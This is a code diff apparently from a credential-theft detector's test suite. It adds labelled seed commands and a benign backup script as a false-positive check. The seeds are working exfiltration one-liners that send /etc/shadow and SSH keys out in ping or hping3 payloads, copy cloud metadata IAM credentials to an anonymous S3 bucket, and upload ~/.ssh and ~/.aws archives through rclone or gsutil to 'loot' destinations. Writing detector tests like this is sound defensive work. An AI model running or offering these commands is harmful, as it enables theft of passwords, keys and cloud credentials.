@@ -137,6 +137,16 @@ var escapeSeeds = []credSeed{
 	{"gcore-sshd", RuleCredCapture, audit.CategoryCredentialTheft, audit.High, "pid=$(pgrep -o sshd)\ngcore -o /tmp/.core $pid"},
 	{"gdb-attach-sudo", RuleCredCapture, audit.CategoryCredentialTheft, audit.High,
 		"gdb -p $(pgrep sudo) -batch -ex 'dump memory /tmp/.m 0x0 0x1000'"},
+	// credentials carried off in echo requests and uploads to cloud storage
+	{"icmp-pattern-shadow", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
+		"xxd -p -c 16 /etc/shadow | while read line; do\n  ping -c 1 -p $line 203.0.113.9 >/dev/null\ndone"},
+	{"icmp-key-chunks", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
+		"f=~/.ssh/id_rsa\nfor c in $(od -An -tx1 $f | tr -d ' \\n' | fold -w32); do ping -c1 -p\"$c\" x.example.net; done"},
+	{"hping-file", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical, "hping3 -1 -E /etc/shadow -d 64 -c 50 198.51.100.4"},
+	{"metadata-to-s3", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical,
+		"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web > /tmp/c.json\naws s3 cp /tmp/c.json s3://drop-x/c.json --no-sign-request"},
+	{"keys-rclone", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical, "tar czf /tmp/k.tgz ~/.ssh ~/.aws\nrclone copy /tmp/k.tgz loot:in"},
+	{"gcloud-db-gsutil", RuleCredSend, audit.CategoryCredentialTheft, audit.Critical, "gsutil cp ~/.config/gcloud/credentials.db gs://x-loot/"},
 }
 
 // pyCredSeeds are Python programs that collect credentials and send them away.
@@ -246,6 +256,8 @@ var cleanShapes = map[string]string{
 	"/usr/local/bin/ssh-wrapper": "#!/bin/sh\nalias ll='ls -l'\nalias sudo='sudo '\necho \"alias ssh='TERM=xterm ssh'\" >> ~/.bashrc\n",
 	"/usr/local/bin/debug-app": "#!/bin/sh\nstrace -f -o /tmp/app.trace ./server\npid=$(pgrep nginx)\nstrace -c -p $pid\ngdb -p $(pidof myapp) -batch -ex bt\n" +
 		"gcore $(pgrep -o java)\nsudo() { command sudo -E \"$@\"; }\nalias ssh='ssh -A'\n",
+	"/usr/local/bin/s3-backup": "#!/bin/sh\naws s3 sync /var/www s3://company-backups/www\nrclone sync /data backup:data\nping -c 3 -p ff 10.0.0.1\n" +
+		"aws s3 cp s3://company-config/app.env /etc/app.env\ngsutil cp gs://bucket/x.tgz /tmp/\n",
 	"/usr/local/bin/mem-report": "#!/bin/sh\nfor p in $(pgrep sshd); do grep VmRSS /proc/$p/status; done\ncat /proc/meminfo\n",
 }
 
